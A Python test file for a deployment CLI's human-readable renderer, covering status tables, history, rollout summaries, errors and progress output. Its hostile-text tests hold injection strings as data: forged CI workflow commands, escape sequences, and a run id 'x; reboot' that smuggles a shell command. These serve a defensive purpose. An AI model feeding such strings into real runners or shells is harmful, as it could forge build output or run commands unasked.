"""What people see: summaries, tables, errors and the live line."""

from __future__ import annotations

import fcntl
import io
import os
import pty
import re
import struct
import subprocess
import sys
import termios
import threading
import time
from collections.abc import Callable, Iterable
from typing import Any, TextIO

import pyte
import pytest
from hypothesis import given
from hypothesis import strategies as st

from deployctl.errors import (
    BrokenError,
    BusyError,
    DeployctlError,
    HostError,
    InterruptedByUserError,
    RefusedError,
    UsageError,
)
from deployctl.events import (
    ConnectionBack,
    ConnectionLost,
    Event,
    HostFinished,
    HostStarted,
    Notice,
    Phase,
    RunEnded,
    StepEnded,
    StepStarted,
)
from deployctl.model import (
    Action,
    Health,
    HistoryResult,
    HostOutcome,
    RecordedRun,
    Release,
    RolloutResult,
    RunOutcome,
    State,
    StatusResult,
    UnfinishedRun,
)
from deployctl.outcome import REASONS
from deployctl.render import human
from deployctl.render.detail import START
from deployctl.render.hint import Hint
from deployctl.render.text import columns, disarm
from deployctl.verdict import Verdict
from tests.unit.render_samples import (
    BACK,
    NEW,
    NOW,
    OLD,
    RESTORED,
    UNREACHABLE,
    Terminal,
    container,
    entry,
    errors,
    events,
    histories,
    in_sync,
    of_runs,
    recorded_run,
    rollouts,
    run,
    statuses,
)

GOING_ON = UnfinishedRun(
    "20251123t115950z-9f3c1a07",
    "sam@desk",
    "deploy",
    "enforcer-backend",
    NEW.tag,
    "2025-11-23T11:59:50Z",
)
SMART = {"TERM": "xterm-256color"}
STYLE = re.compile(r"\x1b\[[0-9]+m")


class AsciiFile(io.TextIOWrapper):
    """A file that knows no other characters."""

    def __init__(self) -> None:
        super().__init__(io.BytesIO(), encoding="ascii", newline="")

    def text(self) -> str:
        self.flush()
        buffer = self.buffer
        assert isinstance(buffer, io.BytesIO)
        return buffer.getvalue().decode("ascii")


def rolled_out(result: RolloutResult, *, out: TextIO | None = None, color: bool = False) -> str:
    stream = out or io.StringIO()
    human.rollout(result, out=stream, color=color, now=NOW)
    return stream.getvalue() if isinstance(stream, io.StringIO) else ""


def status_of(*rows: StatusResult, out: io.StringIO | None = None, width: int = 80) -> str:
    stream = out or Terminal()
    human.status(rows, out=stream, color=False, width=width, now=NOW)
    return stream.getvalue()


def history_of(
    *results: HistoryResult,
    out: io.StringIO | None = None,
    width: int = 80,
    events: bool = False,
) -> str:
    stream = out or Terminal()
    human.history(results, events=events, out=stream, color=False, width=width, now=NOW)
    return stream.getvalue()


def error_of(err: DeployctlError, *, host: str = "", color: bool = False) -> str:
    stream = io.StringIO()
    human.error(err, err_stream=stream, color=color, host=host)
    return stream.getvalue()


def lines_of(text: str) -> list[str]:
    return text.splitlines()


# ---------------------------------------------------------------- hostile text


def assert_harmless(text: str) -> None:
    assert text.replace("\n", "").isprintable()
    assert "##[" not in text
    assert not any(line.lstrip().startswith("::") for line in text.split("\n"))


@given(rollouts)
def test_a_rollout_of_hostile_text_is_harmless(result: RolloutResult) -> None:
    assert_harmless(rolled_out(result))
    assert_harmless(STYLE.sub("", rolled_out(result, color=True)))


@given(errors)
def test_an_error_of_hostile_text_is_harmless(err: DeployctlError) -> None:
    assert_harmless(error_of(err, host=err.code))
    assert_harmless(STYLE.sub("", error_of(err, color=True)))


def keeps_to(line: str, width: int, hints: Iterable[str]) -> bool:
    """Whether a line fits, or has a reason not to: a word without room on any, or a command."""
    commands = {disarm(command) for hint in hints for command in Hint.of(hint).commands}
    is_command = line.strip() in commands or "deployctl follow" in line
    has_no_room = max(columns(word) for word in line.split(" ")) > width - START - len("  | ")
    return columns(line) <= width or has_no_room or is_command


@given(st.lists(statuses, max_size=3), st.integers(min_value=20, max_value=200))
def test_a_status_of_hostile_text_is_harmless_and_keeps_to_the_width(
    rows: list[StatusResult], width: int
) -> None:
    for number in (len(rows), 1):  # a single row has more to it
        text = status_of(*rows[:number], width=width)
        assert_harmless(text)
        hints = [row.error.hint for row in rows if row.error]
        assert all(keeps_to(line, width, hints) for line in lines_of(text))
    assert_harmless(status_of(*rows, out=io.StringIO()))


@given(st.lists(histories, max_size=3), st.integers(min_value=20, max_value=200))
def test_a_history_of_hostile_text_is_harmless_and_its_table_keeps_to_the_width(
    results: list[HistoryResult], width: int
) -> None:
    for events_too in (False, True):
        text = history_of(*results, width=width, events=events_too)
        assert_harmless(text)
        hints = [result.error.hint for result in results if result.error]
        assert all(keeps_to(line, width, hints) for line in lines_of(text))
        assert_harmless(history_of(*results, out=io.StringIO(), events=events_too))


@given(st.lists(events, max_size=8))
def test_the_progress_of_hostile_events_is_harmless(happened: list[Event]) -> None:
    stream = io.StringIO()
    with human.Progress(stream, {}) as progress:
        for event in happened:
            progress(event)
    assert_harmless(stream.getvalue())


@given(st.lists(statuses, max_size=2), rollouts, histories)
def test_a_stream_without_unicode_gets_ascii(
    rows: list[StatusResult], result: RolloutResult, recorded: HistoryResult
) -> None:
    stream = AsciiFile()
    human.status(rows, out=stream, color=False, width=80, now=NOW)
    human.rollout(result, out=stream, color=False, now=NOW)
    human.history([recorded], out=stream, color=False, width=80, now=NOW)
    assert_harmless(stream.text())


@pytest.mark.parametrize(
    "piece", ["\x1b[0m", "\x1b]", "\x9d", "x", " ", "\n", "漢", "\u202e", "::"]
)
def test_megabytes_are_cut_short_and_take_no_time(piece: str) -> None:
    text = piece * 1_000_000
    err = RefusedError(text, text, state=text, hint=text, details=(text, text))
    release = Release(text, text, text)
    row = in_sync(
        host=text,
        state=State.UNTRACKED,
        running=release,
        recorded=release,
        containers=(container(release, name=text, status=text),) * 3,
        health=text,
        since=text,
        deployed_by=text,
        run_url=text,
        notes=(text,),
        error=err,
    )
    line = entry(1, text, tag=text, reason=text)
    recorded = HistoryResult(text, (line,), (text,), err, (recorded_run(run=text, reason=text),))
    done = run(host=text, release=release, commands=(text,), notes=(text,))
    began = time.perf_counter()
    written = (
        status_of(row)
        + history_of(recorded)
        + rolled_out(of_runs(done, HostOutcome(text, error=err)))
        + error_of(err)
    )
    assert time.perf_counter() - began < 5
    assert len(written) < 500_000
    assert_harmless(written)


def test_markup_is_not_interpreted() -> None:
    err = RefusedError("x", "no [red] in [/opt/infra] :boom:", state="[bold]as before")
    assert lines_of(error_of(err)) == [
        "error: no [red] in [/opt/infra] :boom:",
        "state: [bold]as before",
    ]


# ---------------------------------------------------------------- rollout


def test_a_deploy_is_summed_up_in_one_line() -> None:
    assert rolled_out(of_runs(run())) == (
        "vps: enforcer-backend runs sha-1a2b3c4 (was sha-0f9e8d7), healthy, 4.2 s\n"
    )


def test_a_first_deploy_says_that_nothing_ran_before() -> None:
    text = rolled_out(of_runs(run(previous=None)))
    assert "runs sha-1a2b3c4 (nothing ran before), healthy" in text


def test_an_unchanged_host_says_that_there_is_nothing_to_do() -> None:
    assert rolled_out(of_runs(run(outcome="unchanged"))) == (
        "vps: enforcer-backend already runs sha-1a2b3c4, healthy: nothing to do\n"
    )


def test_a_rollback_says_who_deployed_its_target() -> None:
    back = run(action=Action.ROLLBACK, release=OLD, previous=NEW, target=BACK)
    assert lines_of(rolled_out(of_runs(back))) == [
        "vps: enforcer-backend runs sha-0f9e8d7 again (was sha-1a2b3c4), healthy, 4.2 s",
        "  sha-0f9e8d7 was deployed 2 d ago by kim",
    ]


def test_a_dry_run_shows_verdicts_and_the_exact_commands() -> None:
    planned = run(
        outcome="planned",
        verdicts=(Verdict("tag", True, "is a commit tag"), Verdict("source", False, "a branch")),
        commands=("cd '/opt/in fra'", "docker compose \\\n  up -d"),
        notes=("the compose files differ",),
    )
    assert lines_of(rolled_out(of_runs(planned))) == [
        (
            "vps: enforcer-backend would run sha-1a2b3c4 (now sha-0f9e8d7); "
            "dry run: nothing was changed"
        ),
        "  ✓ tag     is a commit tag",
        "  ✗ source  a branch",
        "  $ cd '/opt/in fra'",
        "  $ docker compose \\",
        "  >   up -d",
        "  note: the compose files differ",
    ]


def test_of_a_real_run_only_the_verdicts_that_did_not_pass_are_shown() -> None:
    done = run(verdicts=(Verdict("tag", True, "well"), Verdict("dependencies", False, "db is ill")))
    assert lines_of(rolled_out(of_runs(done)))[1:] == ["  ✗ dependencies  db is ill"]


def test_a_failure_among_several_hosts_names_those_done_and_not_attempted() -> None:
    result = of_runs(run(), HostOutcome("vps2", error=RESTORED), not_attempted=("vps3",))
    assert lines_of(rolled_out(result)) == [
        "vps: enforcer-backend runs sha-1a2b3c4 (was sha-0f9e8d7), healthy, 4.2 s",
        "vps2: failed (restored): sha-0f9e8d7 is back and healthy",
        "vps3: not attempted",
    ]


def test_the_failure_of_a_single_host_is_left_to_its_error() -> None:
    assert rolled_out(of_runs(HostOutcome("vps", error=RESTORED))) == ""


# ---------------------------------------------------------------- error


def test_an_error_ends_with_the_state_and_the_next_command() -> None:
    assert lines_of(error_of(RESTORED, host="vps2")) == [
        (
            "error: vps2: deploy of enforcer-backend sha-1a2b3c4 on vps2 failed: "
            "it did not get healthy in time"
        ),
        "  | starting",
        "  | panic: DATABASE_URL is not set",
        "state: sha-0f9e8d7 is back and healthy",
        "next: deployctl status enforcer-backend",
    ]


def test_further_lines_of_a_message_are_indented() -> None:
    err = RefusedError("x", "two mistakes:\na: unknown key\nb: unknown key\n", hint="mend them")
    assert lines_of(error_of(err)) == [
        "error: two mistakes:",
        "  a: unknown key",
        "  b: unknown key",
        "state: nothing on the host was changed",
        "next: mend them",
    ]


def test_log_lines_cannot_give_orders_to_a_workflow_runner() -> None:
    err = RefusedError("x", "failed", details=("::error::forged\n::set-output name=a::b", "##[x]"))
    assert lines_of(error_of(err))[1:4] == [
        "  | ::error::forged",
        "  | ::set-output name=a::b",
        "  | ## [x]",
    ]


def test_of_very_many_log_lines_the_last_are_shown() -> None:
    shown = lines_of(error_of(RefusedError("x", "failed", details=[str(n) for n in range(5000)])))
    assert len(shown) == 202
    assert shown[200] == "  | 4999"


# ---------------------------------------------------------------- status


def test_many_rows_are_a_table_with_what_is_wrong_below_its_row() -> None:
    drifted = in_sync(
        host="vps2",
        state=State.UNTRACKED,
        recorded=OLD,
        hold="kim since 2025-11-23T08:00:00Z: migration",
        rollback_image_present=False,
    )
    assert lines_of(status_of(in_sync(), drifted, UNREACHABLE, width=100)) == [
        (
            "HOST  SERVICE           TAG          STATE             HEALTH   SINCE      "
            "BY          ROLLBACK TO"
        ),
        (
            "vps   enforcer-backend  sha-1a2b3c4  in sync           healthy  2 min ago  "
            "kim@laptop  sha-0f9e8d7"
        ),
        (
            "vps2  enforcer-backend  sha-1a2b3c4  untracked (hold)  healthy  2 min ago  "
            "kim@laptop  sha-0f9e8d7"
        ),
        "  runs         sha-1a2b3c4 (image 4f4f4f4f4f4f)",
        "  recorded     sha-0f9e8d7 (image 1b1b1b1b1b1b), 3 min ago by kim@laptop",
        "  rollback     the image of sha-0f9e8d7 is not on the host",
        "  hold         kim since 2025-11-23T08:00:00Z: migration",
        "vps3  enforcer-backend  -            unreachable       -        -          -           -",
        "  error        vps3 (203.0.113.9:22) did not answer within 10 s",
        "  next         is the host up, the address right, and the port open in its firewall?",
    ]


def test_a_terminal_of_80_columns_gets_what_matters_most() -> None:
    text = status_of(in_sync(), in_sync(host="vps2"))
    assert lines_of(text)[:2] == [
        "HOST  SERVICE           TAG          STATE    SINCE      BY          ROLLBACK TO",
        "vps   enforcer-backend  sha-1a2b3c4  in sync  2 min ago  kim@laptop  sha-0f9e8d7",
    ]


def test_a_single_row_is_followed_by_all_that_is_known() -> None:
    assert lines_of(status_of(in_sync()))[2:] == [
        "  health       healthy, 1 container",
        "  since        2025-11-23T11:57:00Z (2 min ago)",
        "  deployed     2025-11-23T11:56:58Z (3 min ago) by kim@laptop",
        "  workflow     https://github.com/example/enforcer/actions/runs/11972345678",
        "  revision     1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d",
        "  digest",
        f"    {NEW.digest}",
        "  rollback to  sha-0f9e8d7, deployed 2 d ago by kim; its image is on the host",
    ]


def test_output_that_is_piped_is_complete_uncut_and_has_timestamps() -> None:
    row = in_sync(service="a-service-with-a-name-that-is-much-too-long-for-any-terminal" * 2)
    text = status_of(row, row, out=io.StringIO())
    assert row.service in text
    assert "…" not in text
    assert lines_of(text)[0].split() == [
        *("HOST", "SERVICE", "TAG", "STATE", "HEALTH", "SINCE", "BY", "ROLLBACK", "TO")
    ]
    assert lines_of(text)[1].split()[-3:] == ["2025-11-23T11:57:00Z", "kim@laptop", "sha-0f9e8d7"]


HOST, SERVICE = "h" * 63, "s" * 40


def test_names_that_leave_no_room_stand_above_their_row_whole() -> None:
    rows = [in_sync(host=HOST, service=SERVICE), in_sync(host=HOST, service="web")]
    assert lines_of(status_of(*rows, in_sync(), width=60)) == [
        "HOST  SERVICE",
        "  TAG          STATE    SINCE      BY          ROLLBACK TO",
        HOST,
        SERVICE,
        "  sha-1a2b3c4  in sync  2 min ago  kim@laptop  sha-0f9e8d7",
        "web",  # of the same host
        "  sha-1a2b3c4  in sync  2 min ago  kim@laptop  sha-0f9e8d7",
        "vps  enforcer-backend",
        "  sha-1a2b3c4  in sync  2 min ago  kim@laptop  sha-0f9e8d7",
    ]


def test_the_run_of_a_history_stays_however_narrow_the_terminal() -> None:
    recorded = HistoryResult("vps", runs=(recorded_run(), recorded_run(run="r2")))
    assert lines_of(history_of(recorded, width=40)) == [
        "RUN",
        "  WHEN       OUTCOME    TAG",
        "20251123t115652z-9f3c1a07",
        "  3 min ago  succeeded  sha-1a2b3c4",
        "r2",
        "  3 min ago  succeeded  sha-1a2b3c4",
    ]


def test_what_is_no_name_is_cut_where_there_is_no_room_at_all() -> None:
    row = in_sync(running=Release("x" * 100, "", ""), host=HOST)
    assert "x…  in sync" in status_of(row, row)


def test_a_note_of_a_host_is_said_once_whatever_the_number_of_its_services() -> None:
    rows = [in_sync(service=name, notes=("line 3: not JSON", "torn")) for name in "abc"]
    text = status_of(*rows, in_sync(host="vps2", notes=("torn", "torn")), width=120)
    assert [line for line in lines_of(text) if "note" in line] == [
        "  note         line 3: not JSON (told by 3 services of this host)",
        "  note         torn (told by 3 services of this host)",
        "  note         torn",
    ]


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        (
            in_sync(state=State.UNTRACKED, recorded=None, unrecorded="its history is damaged"),
            [
                "  runs         sha-1a2b3c4 (image 4f4f4f4f4f4f)",
                "  recorded     nothing: its history is damaged",
            ],
        ),
        (
            in_sync(
                state=State.MIXED,
                running=None,
                containers=(container(), container(), container(OLD)),
            ),
            [
                "  runs         sha-1a2b3c4 (image 4f4f4f4f4f4f) in 2 containers",
                "  runs         sha-0f9e8d7 (image 1b1b1b1b1b1b) in 1 container",
                "  recorded     sha-1a2b3c4 (image 4f4f4f4f4f4f), 3 min ago by kim@laptop",
            ],
        ),
        (
            in_sync(
                state=State.UNHEALTHY, containers=(container(health=Health.UNHEALTHY, restarts=3),)
            ),
            ["  container    infra-enforcer-backend-1: running, unhealthy, 3 restarts"],
        ),
        (
            in_sync(
                state=State.NOT_RUNNING, containers=(container(status="exited", exit_code=137),)
            ),
            ["  container    infra-enforcer-backend-1: exited, exit status 137"],
        ),
        (in_sync(state=State.NOT_RUNNING, containers=()), ["  containers   none"]),
        (
            in_sync(run_in_progress=UnfinishedRun()),
            ["  busy         another deployctl run"],
        ),
        (
            in_sync(run_in_progress=GOING_ON),
            [
                "  busy         deploy of enforcer-backend sha-1a2b3c4 by sam@desk, since",
                "               2025-11-23T11:59:50Z (10 s ago)",
                "  next         watch it:",
                f"               deployctl follow vps {GOING_ON.run}",
            ],
        ),
        (
            in_sync(
                state=State.INTERRUPTED,
                running=None,
                interrupted_run=GOING_ON,
                notes=("line 3: not JSON",),
            ),
            [
                "  runs         nothing, or a mixture",
                "  last run     deploy of enforcer-backend sha-1a2b3c4 by sam@desk, since",
                "               2025-11-23T11:59:50Z (10 s ago)",
                "  outcome      none: it was killed, or its line in the history is damaged",
                "  recorded     sha-1a2b3c4 (image 4f4f4f4f4f4f), 3 min ago by kim@laptop",
                "  next         see how far it came, then deploy again or roll back:",
                f"               deployctl follow vps {GOING_ON.run}",
                "  note         line 3: not JSON",
            ],
        ),
    ],
)
def test_a_row_that_is_not_well_says_why(row: StatusResult, expected: list[str]) -> None:
    assert lines_of(status_of(row, in_sync()))[2:-1] == expected


def test_while_a_deploy_runs_what_is_recorded_and_what_is_under_way_are_told_apart() -> None:
    row = in_sync(
        state=State.DEPLOYING,
        running=NEW,
        recorded=OLD,
        deployed_at="2025-11-21T09:00:00Z",
        run_in_progress=GOING_ON,
        health="starting",
        containers=(container(health=Health.STARTING),),
        rollback=None,
    )

    _, first, *details = lines_of(status_of(row))
    assert "deploying" in first
    assert "sam@desk" in first
    assert "kim@laptop" not in first
    assert details[:7] == [
        "  runs         sha-1a2b3c4 (image 4f4f4f4f4f4f)",
        "  recorded     sha-0f9e8d7 (image 1b1b1b1b1b1b), 2 d ago by kim@laptop",
        "  under way    deploy of enforcer-backend sha-1a2b3c4 by sam@desk, since",
        "               2025-11-23T11:59:50Z (10 s ago)",
        "  next         watch it:",
        f"               deployctl follow vps {GOING_ON.run}",
        "  container    infra-enforcer-backend-1: running, starting",
    ]
    assert "deployed" not in "".join(details), "what is recorded is told already"


def test_a_run_whose_id_cannot_be_typed_is_not_offered_to_be_followed() -> None:
    row = in_sync(run_in_progress=UnfinishedRun("x; reboot", "a", "deploy", "web", "t", "now"))

    assert "follow" not in status_of(row)


def test_a_single_unreachable_row_shows_the_evidence() -> None:
    assert lines_of(status_of(UNREACHABLE))[2:] == [
        "  error        vps3 (203.0.113.9:22) did not answer within 10 s",
        "               | tried 203.0.113.9",
        "  next         is the host up, the address right, and the port open in its",
        "               firewall?",
    ]


def test_a_missing_way_back_is_explained() -> None:
    row = in_sync(rollback=None, rollback_refusal="sha-1a2b3c4 is the oldest release")
    assert "  rollback to  nothing: sha-1a2b3c4 is the oldest release\n" in status_of(row)


def test_an_image_without_a_digest_is_named_by_its_id() -> None:
    row = in_sync(running=Release("sha-1a2b3c4", "sha256:" + "4f" * 32))
    assert f"  image\n    sha256:{'4f' * 32}\n" in status_of(row)


def test_no_rows_write_nothing() -> None:
    assert status_of() == ""


# ---------------------------------------------------------------- history

RECORDED = HistoryResult(
    "vps",
    (
        entry(1, "started"),
        entry(2, "succeeded"),
        entry(3, "restored", reason="health-timeout", tag="sha-2b3c4d5"),
    ),
    ("line 3: not JSON",),
    runs=(
        recorded_run(outcome=RunOutcome.IN_PROGRESS, seconds=12.04),
        recorded_run(outcome=RunOutcome.RESTORED, reason="health-timeout"),
        recorded_run(),
    ),
)


def test_a_history_has_a_row_for_each_run_and_ends_with_its_problems() -> None:
    assert lines_of(history_of(RECORDED, width=120))[:-1] == [
        "WHEN       OUTCOME      ACTION  SERVICE           TAG          BY            TOOK  RUN",
        (
            "3 min ago  in progress  deploy  enforcer-backend  sha-1a2b3c4  kim@laptop  12.0 s  "
            "20251123t115652z-9f3c1a07"
        ),
        "  next         deployctl follow vps 20251123t115652z-9f3c1a07",
        (
            "3 min ago  restored     deploy  enforcer-backend  sha-1a2b3c4  kim@laptop   4.2 s  "
            "20251123t115652z-9f3c1a07"
        ),
        f"  why          {REASONS['health-timeout']}; sha-0f9e8d7 was put back",
        (
            "3 min ago  succeeded    deploy  enforcer-backend  sha-1a2b3c4  kim@laptop   4.2 s  "
            "20251123t115652z-9f3c1a07"
        ),
    ]
    assert lines_of(history_of(RECORDED))[-1] == "vps: problem: line 3: not JSON"


@pytest.mark.parametrize(
    ("run", "said"),
    [
        ({"outcome": RunOutcome.BROKEN, "reason": "exited"}, "its container exited; nothing was"),
        ({"outcome": RunOutcome.RESTORED, "previous": None}, "not recorded; the release before"),
        ({"outcome": RunOutcome.RESTORED, "reason": "of-tomorrow"}, "of-tomorrow; sha-0f9e8d7"),
        (
            {"outcome": RunOutcome.INTERRUPTED},
            "it left no outcome: it was killed, or its line in the history is damaged",
        ),
        ({"outcome": RunOutcome.UNKNOWN}, "may stand in a line that cannot be read"),
    ],
)
def test_a_run_that_did_not_end_well_says_why_in_words(run: dict[str, Any], said: str) -> None:
    recorded = HistoryResult("vps", runs=(recorded_run(seconds=None, **run),))
    assert said in history_of(recorded, width=120)
    assert said in history_of(recorded, out=io.StringIO())


def test_the_runs_of_several_hosts_are_newest_first_each_hosts_in_its_own_order() -> None:
    def at(minute: int) -> RecordedRun:
        return recorded_run(run=f"run-{minute}", started_at=f"2025-11-23T11:{minute:02d}:00Z")

    text = history_of(
        HistoryResult("vps", runs=(at(7), at(5), at(6))),  # its clock was set back
        HistoryResult("vps2", runs=(at(8), at(1))),
        out=io.StringIO(),
    )
    assert re.findall(r"run-\d", text) == ["run-8", "run-7", "run-5", "run-6", "run-1"]


def test_a_pipe_gets_every_column_and_one_line_for_each_run() -> None:
    text = history_of(RECORDED, HistoryResult("vps2"), out=io.StringIO())
    assert lines_of(text)[2:] == [
        (
            "vps   2025-11-23T11:56:54Z  restored     deploy  enforcer-backend  sha-1a2b3c4  "
            "kim@laptop   4.2 s  20251123t115652z-9f3c1a07  "
            f"{REASONS['health-timeout']}; sha-0f9e8d7 was put back"
        ),
        (
            "vps   2025-11-23T11:56:54Z  succeeded    deploy  enforcer-backend  sha-1a2b3c4  "
            "kim@laptop   4.2 s  20251123t115652z-9f3c1a07  -"
        ),
        "vps: problem: line 3: not JSON",
        "vps2: nothing is recorded yet",
    ]


def test_the_events_of_a_history_are_newest_first_and_end_with_its_problems() -> None:
    assert lines_of(history_of(RECORDED, width=100, events=True)) == [
        "SEQ  WHEN       EVENT      ACTION  TAG          BY          SECONDS  REASON",
        "  3  3 min ago  restored   deploy  sha-2b3c4d5  kim@laptop      4.2  health-timeout",
        "  2  3 min ago  succeeded  deploy  sha-1a2b3c4  kim@laptop      4.2  -",
        "  1  3 min ago  started    deploy  sha-1a2b3c4  kim@laptop      4.2  -",
        "vps: problem: line 3: not JSON",
    ]


def test_a_long_reason_stands_below_its_line_on_a_terminal() -> None:
    reason = "the container exited with status 1 before it became healthy; the old one is back"
    recorded = HistoryResult("vps", (entry(1, "restored", reason=reason),))
    assert lines_of(history_of(recorded, events=True))[2:] == [
        "  reason       the container exited with status 1 before it became healthy; the",
        "               old one is back",
    ]


def test_piped_events_have_every_column_and_one_line_each() -> None:
    text = history_of(RECORDED, HistoryResult("vps2"), out=io.StringIO(), events=True)
    assert lines_of(text) == [
        (
            "HOST  SEQ  WHEN                  EVENT      ACTION  SERVICE           TAG          "
            "BY          SECONDS  REASON"
        ),
        (
            "vps     3  2025-11-23T11:56:03Z  restored   deploy  enforcer-backend  sha-2b3c4d5  "
            "kim@laptop      4.2  health-timeout"
        ),
        (
            "vps     2  2025-11-23T11:56:02Z  succeeded  deploy  enforcer-backend  sha-1a2b3c4  "
            "kim@laptop      4.2  -"
        ),
        (
            "vps     1  2025-11-23T11:56:01Z  started    deploy  enforcer-backend  sha-1a2b3c4  "
            "kim@laptop      4.2  -"
        ),
        "vps: problem: line 3: not JSON",
        "vps2: nothing is recorded yet",
    ]


def test_an_unreachable_host_has_no_history_but_a_reason() -> None:
    text = history_of(HistoryResult("vps3", error=UNREACHABLE.error))
    assert lines_of(text) == [
        "vps3: error: vps3 (203.0.113.9:22) did not answer within 10 s",
        "vps3: next: is the host up, the address right, and the port open in its",
        "  firewall?",
    ]


# ---------------------------------------------------------------- colours and widths


@pytest.mark.parametrize(
    ("stream", "environment", "expected"),
    [
        (Terminal(), SMART, True),
        (Terminal(), {**SMART, "NO_COLOR": ""}, True),
        (Terminal(), {**SMART, "NO_COLOR": "1"}, False),
        (Terminal(), {"TERM": "dumb"}, False),
        (Terminal(), {}, False),
        (io.StringIO(), SMART, False),
    ],
)
def test_colours_are_for_terminals_that_want_them(
    stream: TextIO, environment: dict[str, str], expected: bool
) -> None:
    assert human.wants_color(stream, environment) is expected


def test_a_closed_stream_is_no_terminal() -> None:
    stream = Terminal()
    closed = io.StringIO()
    closed.close()
    assert human.wants_color(closed, SMART) is False
    assert human.terminal_width(stream, {}) == 80


@pytest.mark.parametrize(
    ("wanted", "expected"), [("120", 120), ("0", 80), ("wide", 80), ("9" * 5000, 80), ("3", 20)]
)
def test_columns_in_the_environment_count(wanted: str, expected: int) -> None:
    assert human.terminal_width(io.StringIO(), {"COLUMNS": wanted}) == expected


def test_without_colour_there_is_no_escape_sequence_at_all() -> None:
    text = (
        rolled_out(of_runs(run(), HostOutcome("vps2", error=RESTORED), not_attempted=("vps3",)))
        + status_of(in_sync(), UNREACHABLE)
        + history_of(RECORDED)
        + error_of(RESTORED)
    )
    assert "\x1b" not in text


def test_colours_do_not_change_the_text() -> None:
    plain, coloured = Terminal(), Terminal()
    for stream, color in ((plain, False), (coloured, True)):
        human.status([in_sync(), UNREACHABLE], out=stream, color=color, width=80, now=NOW)
        human.history([RECORDED], out=stream, color=color, width=80, now=NOW)
    assert "\x1b[32m" in coloured.getvalue()
    assert STYLE.sub("", coloured.getvalue()) == plain.getvalue()


def test_a_stream_without_unicode_gets_other_marks() -> None:
    stream = AsciiFile()
    planned = run(outcome="planned", verdicts=(Verdict("tag", True, "é → ✓"),))
    human.rollout(of_runs(planned), out=stream, color=False, now=NOW)
    assert "  + tag  \\xe9 -> +\n" in stream.text()


def test_importing_the_views_imports_no_rich() -> None:
    code = (
        "import sys, deployctl.render.human, deployctl.render.json\n"
        "print(*sorted({'rich', 'typer', 'paramiko', 'fabric', 'unicodedata'} & set(sys.modules)))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=30
    )
    assert done.stdout.strip() == ""


def test_an_encoding_that_nobody_knows_counts_as_ascii() -> None:
    class Strange(io.StringIO):
        encoding = "klingon"

    stream = Strange()
    human.error(RefusedError("x", "né"), err_stream=stream, color=False)
    assert lines_of(stream.getvalue())[0] == "error: n\\xe9"


def test_many_containers_that_are_not_well_are_counted() -> None:
    ill = container(status="dead")
    text = status_of(in_sync(state=State.UNHEALTHY, containers=(ill,) * 25), in_sync())
    assert text.count("exit status 0") == 20
    assert "               and 5 more\n" in text


# ---------------------------------------------------------------- progress


class Clock:
    """Half a second goes by with each look at it."""

    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        self.now += 0.5
        return self.now


def progress_of(
    *happened: Event, environment: dict[str, str] | None = None, verbose: bool = False
) -> list[str]:
    stream = Terminal()
    with human.Progress(
        stream, environment or {"TERM": "dumb"}, verbose=verbose, clock=Clock()
    ) as progress:
        for event in happened:
            progress(event)
    return lines_of(stream.getvalue())


def test_a_log_gets_a_line_for_each_step_that_is_over() -> None:
    assert progress_of(
        HostStarted("vps", 1, 1),
        StepStarted("vps", Phase.CONNECT),
        StepStarted("vps", Phase.FETCH, "registry.example.com/enforcer:sha-1a2b3c4"),
        Notice("vps", "the compose files differ"),
        HostFinished("vps"),
    ) == [
        "vps: ✓ connect                    0.5 s",
        "vps: note: the compose files differ",
        "vps: ✓ fetch the image            0.5 s",
        "  registry.example.com/enforcer:sha-1a2b3c4",
    ]


def test_the_step_that_failed_is_marked() -> None:
    assert progress_of(
        StepStarted("vps", Phase.UP),
        StepStarted("vps", Phase.HEALTH),
        HostFinished("vps", RefusedError("x", "failed")),
    ) == [
        "vps: ✓ recreate the service       0.5 s",
        "vps: ✗ wait until healthy         0.5 s",
    ]


def test_a_gate_that_refuses_after_a_step_is_a_line_of_its_own_and_the_step_went_well() -> None:
    error = RefusedError("dependency-unhealthy", "db is unhealthy")
    error.verdicts = (
        Verdict("tag", True, ""),
        Verdict("dependencies", False, "db"),
        Verdict("order", False, "not reached", ran=False),
    )

    assert progress_of(
        StepStarted("vps", Phase.PROBE), StepEnded("vps"), HostFinished("vps", error)
    ) == [
        "vps: ✓ look at the host           0.5 s",
        "vps: ✗ refused                           gate: dependencies",
    ]
    assert progress_of(HostFinished("vps", BusyError("changed-meanwhile", "x"))) == [
        "vps: ✗ refused"
    ]


def test_only_refusals_are_shown_where_no_step_failed() -> None:
    """A host that was lost after a step, or Ctrl-C there: the error says it all."""
    for error in (HostError("cancelled", "x"), InterruptedByUserError("interrupted", "x")):
        assert progress_of(HostFinished("vps", error)) == []


def test_a_run_that_is_followed_afterwards_shows_the_recorded_times() -> None:
    assert progress_of(
        StepStarted("vps", Phase.CONNECT),
        StepEnded("vps"),
        StepStarted("vps", Phase.TAG, at=0.01),
        StepStarted("vps", Phase.UP, at=0.05),
        StepStarted("vps", Phase.HEALTH, at=1.45),
        StepStarted("vps", Phase.RESTORE, at=61.5),
        RunEnded("vps", 63.25),
        HostFinished("vps", RESTORED),
    ) == [
        "vps: ✓ connect                    0.5 s",
        "vps: ✓ set the tag                0.0 s",
        "vps: ✓ recreate the service       1.4 s",
        "vps: ✗ wait until healthy        1 min 00 s",
        "vps: ✓ put the old release back   1.8 s",
    ]


def test_how_long_the_last_step_of_a_killed_run_took_is_not_guessed() -> None:
    lines = progress_of(
        StepStarted("vps", Phase.UP, at=0.05),
        RunEnded("vps", None),
        HostFinished("vps", BrokenError("interrupted", "killed")),
    )
    assert lines == ["vps: ✗ recreate the service           ?"]


def test_in_a_log_a_lost_connection_is_said_once_and_then_less_and_less_often() -> None:
    lost = ConnectionLost("vps", "vps does not answer")  # each takes half a second of the clock

    assert progress_of(*[lost] * 200, ConnectionBack("vps"), ConnectionBack("vps")) == [
        "vps: note: vps does not answer; connecting again",
        "vps: note: vps does not answer; still connecting again after 10.0 s",
        "vps: note: vps does not answer; still connecting again after 20.0 s",
        "vps: note: vps does not answer; still connecting again after 40.0 s",
        "vps: note: vps does not answer; still connecting again after 1 min 20 s",
        "vps: note: connected again after 1 min 40 s",
    ]


def test_what_led_to_a_restore_failed_and_the_restore_did_not() -> None:
    marks = progress_of(
        StepStarted("vps", Phase.HEALTH),
        StepStarted("vps", Phase.RESTORE),
        HostFinished("vps", RESTORED),
    )
